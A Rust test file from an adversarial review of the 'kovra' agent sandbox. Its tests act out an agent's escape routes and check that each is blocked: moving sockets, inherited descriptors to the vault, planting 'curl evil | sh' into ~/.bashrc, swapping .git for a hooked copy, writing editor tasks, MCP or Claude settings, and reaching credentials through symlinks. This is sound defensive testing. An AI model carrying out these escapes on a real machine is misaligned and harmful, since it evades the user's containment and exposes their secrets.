//! Findings of the adversarial review of issue 14, each shown end to end as `kovra-test`:
//! what an agent inside `kovra sandbox` (or one holding only a profile's socket) could do
//! that the containment model says it cannot.

use crate::harness::*;
use crate::lab::*;
use crate::nonroot::test_user;

/// What a profile did through the egress proxy is on the trail under its name: a pinned call
/// made inside the sandbox with the profile's placeholder (`proxy-use`) carries
/// `"agent": "bot"`, as every other entry of the profile does (containment.md §2).
#[test]
fn a_profiles_use_of_the_proxy_is_audited_under_its_name() {
    if test_user("review::a_profiles_use_of_the_proxy_is_audited_under_its_name") {
        return;
    }
    let lab = Lab::new("rv-audit");
    let out = lab.sandbox(
        "curl -sS --max-time 30 -o /dev/null -w 'status %{http_code}\\n' \
         https://api.openai.com/v1/echo -H \"Authorization: Bearer $OPENAI_API_KEY\"",
        &[],
    );
    assert!(stdout(&out).contains("status 200"), "{}", describe(&out));
    let (_, v) = lab.json(&["audit", "--action", "proxy-use"]);
    let uses = v["entries"].as_array().expect("entries").clone();
    assert!(!uses.is_empty(), "no proxy-use on the trail: {v}");
    for e in &uses {
        assert_eq!(e["agent"], AGENT, "a proxy use without the profile: {e}");
    }
    lab.assert_nothing_printed();
}

/// The profile's socket directory is shared by every sandbox of the profile (their egress
/// sockets live there too) and by its MCP servers: inside, it must be read-only. Bound
/// writable, an agent could move `daemon.sock` or another sandbox's `egress-N.sock` aside
/// and listen there itself, in the middle of its siblings' kovra requests and traffic.
#[test]
fn the_profiles_socket_directory_is_read_only_inside() {
    if test_user("review::the_profiles_socket_directory_is_read_only_inside") {
        return;
    }
    let lab = Lab::new("rv-sockdir");
    let socket = lab.agent_socket(AGENT);
    let script = format!(
        "{STEP}step mv mv /run/kovra-agent/daemon.sock /run/kovra-agent/moved.sock\n\
         step plant touch /run/kovra-agent/planted.sock\n\
         step status kovra --json status\n"
    );
    let out = lab.sandbox(&script, &[]);
    let text = format!("{}{}", stdout(&out), stderr(&out));
    let all = steps(&text);
    let (rc, o) = step(&all, "mv", &out);
    assert_ne!(*rc, 0, "the profile's socket was moved from inside:\n{o}");
    let (rc, o) = step(&all, "plant", &out);
    assert_ne!(*rc, 0, "a file was planted in the socket directory:\n{o}");
    let (rc, o) = step(&all, "status", &out);
    assert!(*rc == 0 && o.contains(AGENT), "kovra inside: {o}");
    let dir = socket.parent().unwrap();
    assert!(socket.exists(), "{}", socket.display());
    assert!(!dir.join("moved.sock").exists() && !dir.join("planted.sock").exists());
    lab.assert_nothing_printed();
}

/// Descriptors `kovra sandbox` inherited (from a wrapper script, an editor's task runner, a
/// terminal multiplexer) must not reach the command: one open on the vault database, or on
/// the vault home directory, is a way around every mount that hides them.
#[test]
fn descriptors_kovra_sandbox_inherits_do_not_reach_the_command() {
    if test_user("review::descriptors_kovra_sandbox_inherits_do_not_reach_the_command") {
        return;
    }
    let lab = Lab::new("rv-fds");
    let script =
        format!("{STEP}step db head -c 16 /proc/self/fd/7\nstep home ls -A /proc/self/fd/8/\n");
    let mut c = lab.other("sh");
    c.arg("-c")
        .arg("exec \"$0\" sandbox --agent bot -- sh -c \"$1\" 7<\"$2\" 8<\"$3\"")
        .arg(kovra_bin())
        .arg(&script)
        .arg(db_path(&lab.h))
        .arg(&lab.h.home)
        .env("KOVRA_PROJECT", WEB);
    let out = lab.h.run_with(c, None);
    let text = format!("{}{}", stdout(&out), stderr(&out));
    let all = steps(&text);
    let (rc, o) = step(&all, "db", &out);
    assert!(
        *rc != 0 && !o.contains("SQLite"),
        "the vault database, through an inherited descriptor:\n{o}"
    );
    let (rc, o) = step(&all, "home", &out);
    assert!(
        *rc != 0 && !o.contains("vault.db"),
        "the vault home, through an inherited descriptor:\n{o}"
    );
    lab.assert_nothing_printed();
}

/// The project is bound writable. Started in the home directory (where many people start an
/// agent), or in any directory above it, that made all of `~` writable: `~/.bashrc`,
/// `~/.profile`, `~/.config/systemd/user`… run as the human later, outside. Refused, and so
/// is `--writable` naming the home or above.
#[test]
fn a_sandbox_never_makes_the_home_directory_writable() {
    if test_user("review::a_sandbox_never_makes_the_home_directory_writable") {
        return;
    }
    let lab = Lab::new("rv-home");
    let rc = lab.user_home.join(".bashrc");
    write(&rc, "# the human's\n");
    let plant = format!("echo 'curl evil | sh' >> {}", q(&rc));
    let parent = lab.user_home.parent().unwrap().to_path_buf();
    let project = lab.project.display().to_string();
    let home = lab.user_home.display().to_string();
    let cases: [(&std::path::Path, Vec<&str>); 3] = [
        (&lab.user_home, vec![]),
        (&parent, vec![]),
        (&lab.project, vec!["--writable", &home]),
    ];
    for (dir, extra) in cases {
        let mut args = vec!["sandbox", "--agent", AGENT];
        args.extend(extra.iter().copied());
        args.extend(["--", "sh", "-c", &plant]);
        let mut c = lab.cmd(&args);
        c.current_dir(dir).env("KOVRA_PROJECT", WEB);
        let out = lab.h.run_with(c, None);
        assert_ne!(
            out.status.code(),
            Some(0),
            "kovra sandbox in {} {extra:?} ran: {}",
            dir.display(),
            describe(&out)
        );
        assert_eq!(
            std::fs::read_to_string(&rc).unwrap(),
            "# the human's\n",
            "~/.bashrc was rewritten from a sandbox started in {} {extra:?}",
            dir.display()
        );
    }
    // A project below the home still works.
    let out = lab.sandbox("true", &[]);
    assert!(out.status.success(), "{project}: {}", describe(&out));
}

/// The files that configure what runs outside later (`.git/config`, `.git/hooks`, the
/// clients' MCP and settings files) are read-only inside, but their directories were not: an
/// agent renamed `.git` (or `.claude`) aside and wrote a new one, with a hook, around the
/// read-only mounts, and the human's next `git commit` outside ran it. A worktree's `.git`
/// file (which names the git directory, and so the config git reads) was not frozen at all.
#[test]
fn frozen_project_files_cannot_be_replaced_by_renaming_their_directory() {
    if test_user("review::frozen_project_files_cannot_be_replaced_by_renaming_their_directory") {
        return;
    }
    let lab = Lab::new("rv-frozen");
    let p = &lab.project;
    write(&p.join(".git/config"), "[core]\n\tbare = false\n");
    write(&p.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n");
    write(&p.join(".claude/settings.json"), "{}\n");
    let sub = p.join("wt");
    write(&sub.join(".git"), "gitdir: /elsewhere/.git/worktrees/wt\n");
    let script = format!(
        "{STEP}step git sh -c 'mv .git .git-aside && mkdir -p .git/hooks && echo planted > .git/hooks/pre-commit'\n\
         step claude sh -c 'mv .claude .claude-aside && mkdir .claude && echo planted > .claude/settings.json'\n\
         step worktree sh -c 'echo gitdir: planted > wt/.git'\n"
    );
    let out = lab.sandbox(&script, &[]);
    let text = format!("{}{}", stdout(&out), stderr(&out));
    let all = steps(&text);
    for name in ["git", "claude", "worktree"] {
        let (rc, o) = step(&all, name, &out);
        assert_ne!(*rc, 0, "{name}: replaced from inside:\n{o}");
    }
    assert!(
        !p.join(".git/hooks/pre-commit").exists(),
        "a hook was planted"
    );
    assert_eq!(
        std::fs::read_to_string(p.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(
        std::fs::read_to_string(sub.join(".git"))
            .unwrap()
            .contains("/elsewhere/"),
        "the worktree's .git file was rewritten"
    );
}

/// A file on the frozen list that does not exist when the sandbox starts (no `.mcp.json`
/// yet, no `.claude/settings.local.json`), or `.git/commondir` (git then reads the config and
/// hooks of the directory it names): no mount can cover it without creating it in the real
/// project, so when the sandbox ends, what the command created there is moved aside and
/// named (found by review).
#[test]
fn files_that_configure_what_runs_outside_cannot_be_created_inside() {
    if test_user("review::files_that_configure_what_runs_outside_cannot_be_created_inside") {
        return;
    }
    let lab = Lab::new("rv-absent");
    let p = &lab.project;
    write(&p.join(".git/config"), "[core]\n\tbare = false\n");
    let script = "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json; \
                  mkdir -p .claude && echo '{}' > .claude/settings.local.json; \
                  echo ../elsewhere > .git/commondir; true";
    let out = lab.sandbox(script, &[]);
    assert!(out.status.success(), "{}", describe(&out));
    let planted: Vec<&str> = [".mcp.json", ".claude/settings.local.json", ".git/commondir"]
        .into_iter()
        .filter(|f| p.join(f).exists())
        .collect();
    assert!(planted.is_empty(), "planted from inside: {planted:?}");
    for f in [".mcp.json", ".git/commondir"] {
        assert_contains(
            &stderr(&out),
            &format!("created {}", p.join(f).display()),
            &out,
        );
    }
    let aside = std::fs::read_dir(p)
        .unwrap()
        .filter_map(Result::ok)
        .any(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with(".mcp.json.kovra-quarantined-")
        });
    assert!(
        aside,
        "the planted .mcp.json was not kept aside for the human"
    );
}

/// Under Claude Code's sandbox (`kovra setup --sandbox`, srt) the agent's way to secrets is
/// the MCP server, which Claude Code starts outside its sandbox. A run asked for on the
/// profile's socket from the daemon's own namespaces would start on the host (the vault, the
/// human's socket, the network, every file): it is refused (`agent-run-not-contained`), and
/// setup starts Claude Code's server inside `kovra sandbox` instead (found by review).
#[test]
fn a_run_on_an_agent_socket_from_outside_a_sandbox_is_not_unconfined() {
    if test_user("review::a_run_on_an_agent_socket_from_outside_a_sandbox_is_not_unconfined") {
        return;
    }
    let lab = Lab::new("rv-mcprun");
    let socket = lab.agent_socket(AGENT);
    let child = format!(
        "if head -c 16 {db} 2>/dev/null | grep -q SQLite; then echo DB=readable; else echo DB=hidden; fi",
        db = q(db_path(&lab.h))
    );
    let mut c = lab.cmd(&["run", "--", "sh", "-c", &child]);
    c.env("KOVRA_AGENT_SOCKET", &socket)
        .env("KOVRA_PROJECT", WEB);
    let out = lab.h.run_with(c, None);
    let text = stdout(&out);
    assert!(
        !text.contains("DB=readable"),
        "a run asked on the profile's socket read the vault database: {text}"
    );
    assert!(!out.status.success(), "{}", describe(&out));
    assert_contains(&stderr(&out), "starts only inside a sandbox", &out);
    assert_contains(&stderr(&out), "policy-denied", &out);
}

/// What else runs code of the project's when the human opens it outside (the list
/// Anthropic's sandbox runtime protects too): a VS Code task set to run on folder open
/// (`.vscode/tasks.json`), an IntelliJ run configuration (`.idea`), Claude Code's commands
/// and subagents (`.claude/commands`, `.claude/agents`), `.gitmodules`. Where they exist,
/// they are read-only inside.
#[test]
fn editor_tasks_and_client_commands_are_frozen_where_they_exist() {
    if test_user("review::editor_tasks_and_client_commands_are_frozen_where_they_exist") {
        return;
    }
    let lab = Lab::new("rv-tasks");
    let p = &lab.project;
    write(&p.join(".vscode/settings.json"), "{}\n");
    write(&p.join(".idea/workspace.xml"), "<project/>\n");
    write(&p.join(".claude/commands/review.md"), "review\n");
    write(&p.join(".claude/agents/helper.md"), "helper\n");
    write(&p.join(".gitmodules"), "");
    let script = format!(
        "{STEP}step tasks sh -c 'echo planted > .vscode/tasks.json'\n\
         step idea sh -c 'mkdir -p .idea/runConfigurations && echo planted > .idea/runConfigurations/x.xml'\n\
         step commands sh -c 'echo planted > .claude/commands/review.md'\n\
         step agents sh -c 'echo planted > .claude/agents/new.md'\n\
         step gitmodules sh -c 'echo planted > .gitmodules'\n"
    );
    let out = lab.sandbox(&script, &[]);
    let text = format!("{}{}", stdout(&out), stderr(&out));
    let all = steps(&text);
    for name in ["tasks", "idea", "commands", "agents", "gitmodules"] {
        let (rc, o) = step(&all, name, &out);
        assert_ne!(*rc, 0, "{name}: written from inside:\n{o}");
    }
    assert!(!p.join(".vscode/tasks.json").exists());
    assert!(!p.join(".claude/agents/new.md").exists());
    assert_eq!(std::fs::read_to_string(p.join(".gitmodules")).unwrap(), "");
}

/// Paths to hide given to bubblewrap as symlinks: an agent (or a cloned repository) leaves a
/// `.env*` symlink to nothing, or to a directory, in the project; a `.env*` file or `~/.aws`
/// is an absolute symlink (dotfile managers make them). Bubblewrap resolves an absolute
/// symlink in a mount's destination outside the new root and refused to start: the next
/// `kovra sandbox` there must start, and hide what the links point to.
#[test]
fn a_dangling_env_symlink_does_not_stop_the_next_sandbox() {
    if test_user("review::a_dangling_env_symlink_does_not_stop_the_next_sandbox") {
        return;
    }
    let lab = Lab::new("rv-dangle");
    let p = &lab.project;
    std::os::unix::fs::symlink("/nonexistent/dir/file", p.join(".env.dangling")).unwrap();
    std::fs::create_dir_all(p.join("venv")).unwrap();
    std::os::unix::fs::symlink(p.join("venv"), p.join(".env.venv")).unwrap();
    let elsewhere = lab.user_home.join("secrets.env");
    write(&elsewhere, &format!("SECRET={}\n", lab.c.env_file));
    std::os::unix::fs::symlink(&elsewhere, p.join(".env.linked")).unwrap();
    // A dotfile manager's way: `~/.aws` an absolute symlink to where the files really are.
    let dotfiles = lab.h.root.join("dotfiles/aws");
    write(&dotfiles.join("credentials"), &format!("{}\n", lab.c.ssh));
    std::os::unix::fs::symlink(&dotfiles, lab.user_home.join(".aws")).unwrap();
    let aws = lab.user_home.join(".aws/credentials");
    let out = lab.sandbox(
        &format!(
            "cat .env.linked; cat {}; cat {}; echo started",
            q(&aws),
            q(dotfiles.join("credentials"))
        ),
        &[],
    );
    assert!(
        out.status.success() && stdout(&out).contains("started"),
        "the sandbox did not start: {}",
        describe(&out)
    );
    lab.assert_nothing_printed();
}

/// The clients without a sandbox of their own are told to start inside `kovra sandbox`, and
/// their MCP configuration runs `kovra mcp --agent NAME`. Inside, that server looked for the
/// profile's socket beside the human's (hidden there) instead of the sandbox's
/// (`KOVRA_AGENT_SOCKET`), so every tool call failed: daemon-unreachable.
#[test]
fn kovra_mcp_inside_the_sandbox_reaches_the_sandboxs_profile() {
    if test_user("review::kovra_mcp_inside_the_sandbox_reaches_the_sandboxs_profile") {
        return;
    }
    let lab = Lab::new("rv-mcp");
    let frames = [
        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2024-11-05","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"status","arguments":{}}}"#,
    ]
    .join("\n");
    write(&lab.project.join("frames.jsonl"), &format!("{frames}\n"));
    // Standard input stays open until the tool call is answered (at most 30 s), so a slow
    // machine's late reply is not cut off by the session ending.
    let out = lab.sandbox(
        &format!(
            "(cat frames.jsonl; i=0; while [ $i -lt 300 ] && ! grep -q '\"id\":2' mcp.out; \
             do sleep 0.1; i=$((i+1)); done) | kovra mcp --agent {AGENT} > mcp.out; cat mcp.out"
        ),
        &[],
    );
    let text = stdout(&out);
    let reply = text
        .lines()
        .find(|l| l.contains(r#""id":2"#))
        .unwrap_or_else(|| panic!("no reply to the tool call: {}", describe(&out)));
    assert!(
        !reply.contains("daemon-unreachable") && !reply.contains(r#""isError":true"#),
        "{reply}"
    );
    assert!(reply.contains(r#"\"unlocked\":true"#), "{reply}");
}
